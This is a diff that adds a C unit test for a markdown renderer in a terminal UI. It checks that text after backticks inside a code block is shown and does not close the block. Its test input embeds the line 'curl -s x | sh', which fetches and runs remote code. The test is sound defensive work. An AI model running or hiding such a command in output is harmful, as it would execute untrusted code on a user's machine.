@@ -220,6 +220,26 @@ static void test_tui_markdown(void **state)
 	tui_model_release(&m);
 }
 
+/* A closing fence is its backticks (or tildes) alone, as CommonMark has
+ * it: a line inside a code block that starts with them and goes on is a
+ * line of the code, drawn.  Before, it closed the block and what followed
+ * the backticks was not drawn at all: an answer's
+ * "``` && curl -s x | sh" inside a block read as the block's end. */
+static void test_tui_markdown_fence_text_drawn(void **state)
+{
+	(void)state;
+	struct tui_model m;
+	tui_model_init(&m, 60, 12, 1);
+	text(&m, "```sh\nmake\n``` && curl -s x | sh\n```  \nplain\n");
+	char *s = screen(&m);
+	assert_non_null(strstr(s, "  | make\n"));
+	assert_non_null(strstr(s, "  | ``` && curl -s x | sh\n"));
+	assert_non_null(strstr(s, "  `-\n"));	/* the fence with spaces after it closes */
+	assert_non_null(strstr(s, "\nplain\n"));
+	free(s);
+	tui_model_release(&m);
+}
+
 static void tool(struct tui_model *m, const char *out, int nlines_check)
 {
 	struct turn_event ev = { 0 };
@@ -2137,6 +2157,7 @@ int main(void)
 		cmocka_unit_test(test_tui_stream_hidden),
 		cmocka_unit_test(test_tui_stream_split_utf8),
 		cmocka_unit_test(test_tui_markdown),
+		cmocka_unit_test(test_tui_markdown_fence_text_drawn),
 		cmocka_unit_test(test_tui_tool_fold),
 		cmocka_unit_test(test_tui_tool_long_line_marked),
 		cmocka_unit_test(test_tui_tool_name_mixed_script),
